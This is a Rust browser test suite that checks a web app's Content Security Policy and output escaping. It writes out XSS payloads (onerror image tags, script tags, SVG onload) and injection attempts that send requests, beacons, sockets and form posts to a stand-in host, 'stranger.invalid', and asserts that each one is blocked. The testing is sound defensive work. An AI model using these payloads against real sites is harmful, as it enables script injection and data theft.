//! Nothing foreign runs in the page, and the page asks nobody else: its policy, the text of strangers, its requests.

use anyhow::{Context, Result};
use browser_tests::{Engine, Page, asked_by, on_page, on_page_in};
use labs::LABS;
use serde_json::json;

/// What an intruder would try, and the directives of the policy that must speak up. `stranger` is another host,
/// which nobody has.
const ATTEMPTS: &[(&str, &[&str], &str)] = &[
    ("a script inside the page", &["script-src-elem", "script-src"], "add('script', { textContent: hack })"),
    (
        "a script of another host",
        &["script-src-elem", "script-src"],
        "add('script', { src: stranger + 'a.js' })",
    ),
    (
        "a script as data",
        &["script-src-elem", "script-src"],
        "add('script', { src: 'data:text/javascript,' + hack })",
    ),
    (
        "a module of another host",
        &["script-src-elem", "script-src"],
        "import(stranger + 'a.mjs').catch(() => {})",
    ),
    ("eval", &["script-src"], "(window.wrappedJSObject || window).eval(hack)"),
    ("a function out of text", &["script-src"], "new (window.wrappedJSObject || window).Function(hack)()"),
    ("a timer out of text", &["script-src"], "setTimeout(hack, 0)"),
    (
        "an address that is a script",
        &["script-src-elem", "script-src-attr", "script-src"],
        "add('a', { href: 'javascript:' + hack }).click()",
    ),
    (
        "an attribute that is a script",
        &["script-src-attr", "script-src"],
        "add('div', { innerHTML: `<img src=\"data:,\" onerror=\"${hack}\">` })",
    ),
    (
        "a style inside the page",
        &["style-src-elem", "style-src"],
        "add('style', { textContent: 'main { color: red }' })",
    ),
    (
        "an attribute that is a style",
        &["style-src-attr", "style-src"],
        "add('p', {}).setAttribute('style', 'background: red')",
    ),
    (
        "a style sheet of another host",
        &["style-src-elem", "style-src"],
        "add('link', { rel: 'stylesheet', href: stranger + 'a.css' })",
    ),
    ("a picture of another host", &["img-src"], "add('img', { src: stranger + 'a.png' })"),
    (
        "a font of another host",
        &["font-src"],
        "document.fonts.add(new FontFace('a', `url(${stranger}a.woff2)`)), document.fonts.load('9px a').catch(() => {})",
    ),
    ("a request to another host", &["connect-src"], "fetch(stranger).catch(() => {})"),
    ("a message to another host", &["connect-src"], "navigator.sendBeacon(stranger, 'a')"),
    ("a stream of another host", &["connect-src"], "new EventSource(stranger)"),
    ("a socket to another host", &["connect-src"], "new WebSocket(stranger.replace('http', 'ws'))"),
    ("a worker out of text", &["worker-src"], "new Worker(URL.createObjectURL(new Blob([hack])))"),
    ("a frame", &["frame-src"], "add('iframe', { src: stranger })"),
    ("a plug-in", &["object-src"], "add('object', { data: stranger })"),
    ("a film", &["media-src"], "add('video', { src: stranger })"),
    (
        "another base for addresses",
        &["base-uri"],
        "document.head.append(Object.assign(document.createElement('base'), { href: stranger }))",
    ),
    (
        "a form to another host",
        &["form-action"],
        "add('form', { action: stranger, method: 'post' }).submit()",
    ),
];

/// Makes one attempt, in a turn of its own since a driver's may run any text, and gives the directives that spoke up within five seconds, and whether it had its way.
const TRY: &str = r"
    const done = arguments[arguments.length - 1];
    const stranger = 'http://stranger.invalid/', hack = 'window.hacked = 1';
    const add = (name, properties) => {
        const element = Object.assign(document.createElement(name), properties);
        document.querySelector('main').append(element);
        return element;
    };
    const heard = [];
    const hear = (event) => heard.push(event.effectiveDirective || event.violatedDirective);
    document.addEventListener('securitypolicyviolation', hear);
    const start = performance.now();
    const look = () => {
        if (!heard.length && performance.now() - start < 5000) return setTimeout(look, 20);
        document.removeEventListener('securitypolicyviolation', hear);
        done([heard, 'hacked' in window, location.href]);
    };
";

fn assert_refused(engine: Engine) {
    on_page_in(engine, "#/one-prior", async |page| {
        page.settle().await?;
        let address = page.eval("location.href").await?;
        for (what, directives, attempt) in ATTEMPTS {
            let script = format!(
                "{TRY} setTimeout(() => {{ try {{ {attempt} }} catch {{ /* refused */ }} look(); }});"
            );
            let answer = page.client.execute_async(&script, Vec::new()).await;
            let answer = answer.with_context(|| format!("{engine:?}: no answer after {what}"))?;
            let heard: Vec<String> = serde_json::from_value(answer[0].clone())?;
            assert!(
                heard.iter().any(|name| directives.contains(&name.as_str())),
                "{engine:?}: {what} is not refused by {directives:?} but by {heard:?}"
            );
            assert_eq!(answer[1], json!(false), "{engine:?}: {what} had its way");
            assert_eq!(answer[2], address, "{engine:?}: {what} led away");
        }
        // The page itself goes on: its own worker answers.
        page.slide("#control-a", 10).await?;
        page.settle().await?;
        assert!(page.link().await?.contains("a="));
        // What was refused stands in the console.
        page.take_console_errors().await.map(drop)
    });
}

#[test]
fn nothing_foreign_runs() {
    assert_refused(Engine::Chromium);
}

#[test]
fn nothing_foreign_runs_in_firefox() {
    assert_refused(Engine::Firefox);
}

/// What a stranger would call a school, a gene or a file, hoping that it runs.
const NAMES: [&str; 3] = [
    "<img src=x onerror=window.hacked=1>",
    "<script>window.hacked=1</script>",
    "</text><svg onload=window.hacked=1>",
];

#[test]
fn names_of_strangers_are_text_on_the_page_and_in_its_files() {
    /// Keeps every file that the page gives away.
    const KEEP_FILES: &str = "{ window.given = [];
        const original = URL.createObjectURL;
        URL.createObjectURL = (blob) => { blob.text().then((text) => given.push(text)); return original(blob); }; }";
    let [img, script, svg] = NAMES.map(encoded);
    let links = [
        format!(
            "#/data?set=own&own=name,group,value,se;{img},{script},28,15;{script},{script},8,10;{svg},{img},-3,16;a,{img},4,12;b,{svg},7,11;c,{svg},1,9"
        ),
        format!("#/regions?sizes={img}&m={script}&data={svg}&{img}={script}"),
        format!("#/{img}?seed={script}"),
        format!("#/lecture/{svg}"),
    ];
    on_page("", async |page| {
        for (number, link) in links.iter().enumerate() {
            page.reload_with(KEEP_FILES, link).await?;
            page.settle().await?;
            let intruders = page
                .eval("[document.querySelectorAll('main img, main script, [onerror], [onload]').length, 'hacked' in window]")
                .await?;
            assert_eq!(intruders, json!([0, false]), "{link}");
            if number > 0 {
                continue;
            }
            // They are not lost either: all three are to be read.
            let said = page.eval("document.body.textContent").await?;
            let files = given(page).await?;
            for name in NAMES {
                assert!(
                    said.as_str().is_some_and(|said| said.contains(name)),
                    "the page does not say {name}"
                );
                assert!(
                    files.iter().any(|(_, texts)| texts.iter().any(|text| text.contains(name))),
                    "no file says {name}"
                );
            }
            for (elements, _) in files {
                let odd =
                    elements.iter().find(|name| ["img", "script", "foreignObject"].contains(&name.as_str()));
                assert_eq!(odd, None, "a file has an element of a stranger");
            }
        }
        Ok(())
    });
}

/// The elements and the texts of every picture of the page as SVG.
async fn given(page: &Page) -> Result<Vec<(Vec<String>, Vec<String>)>> {
    let pressed = page
        .eval(
            "(() => { const buttons = [...document.querySelectorAll('.take-away button')].filter((e) => e.textContent.trim() === 'Picture as SVG');
               buttons.forEach((e) => e.click()); return buttons.length; })()",
        )
        .await?;
    assert!(pressed.as_u64() >= Some(2), "{pressed} pictures");
    page.wait_until(&format!("given.length === {pressed}")).await?;
    let files: Vec<String> = serde_json::from_value(page.eval("given").await?)?;
    files
        .iter()
        .map(|file| {
            let document = roxmltree::Document::parse(file)?;
            let elements = document.descendants().filter(|node| node.is_element());
            for element in elements.clone() {
                let handler = element.attributes().find(|attribute| attribute.name().starts_with("on"));
                assert_eq!(handler, None, "an element of a file has a script");
            }
            let texts = elements.clone().filter_map(|node| node.text()).map(str::to_owned);
            Ok((elements.map(|node| node.tag_name().name().to_owned()).collect(), texts.collect()))
        })
        .collect()
}

/// Percent-encoded, as in a link: all but letters and digits.
fn encoded(text: &str) -> String {
    text.bytes()
        .map(|byte| match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => char::from(byte).to_string(),
            _ => format!("%{byte:02X}"),
        })
        .collect()
}

#[test]
fn no_other_host_is_ever_asked() -> Result<()> {
    let folder = tempfile::tempdir()?;
    let log = folder.path().join("net.json");
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    let (origin, home) = runtime.block_on(async {
        let page = Page::open_logged(&log, "").await?;
        for lab in LABS {
            page.go_to(&format!("#/{}", lab.meta().name.slug)).await?;
            page.settle().await?;
            page.tables().await?;
        }
        for link in ["#/lecture/9?present=1", "#/regions?embed=on", "#/regions"] {
            page.reload_at(link).await?;
            page.settle().await?;
        }
        for button in ["Share", "Code"] {
            page.press("header", button).await?;
            page.wait_for("dialog[open] .primary").await?;
            page.press("dialog[open]", "×").await?;
        }
        page.eval(
            "document.querySelectorAll('.take-away button:not([aria-expanded]), .sampler .draws').forEach((e) => e.click())",
        )
        .await?;
        page.settle().await?;
        let places = page.eval("[location.origin, new URL('.', location.href).href]").await?;
        // The record has everything: it would have had this.
        page.eval("location.href = 'http://stranger.invalid/'").await?;
        page.wait_until("!location.href.includes('#')").await?;
        page.close().await;
        anyhow::Ok(serde_json::from_value::<(String, String)>(places)?)
    })?;
    let asked = asked_by(&origin, &log)?;
    let (own, others): (Vec<&String>, Vec<&String>) =
        asked.iter().partition(|address| address.starts_with(&home));
    assert_eq!(others, ["http://stranger.invalid/"]);
    for file in ["page-", "worker-regions_bg.wasm", "boot.js", "worker-regions.js", ".woff2"] {
        assert!(own.iter().any(|address| address.contains(file)), "{file} is not in the record: {own:?}");
    }
    Ok(())
}
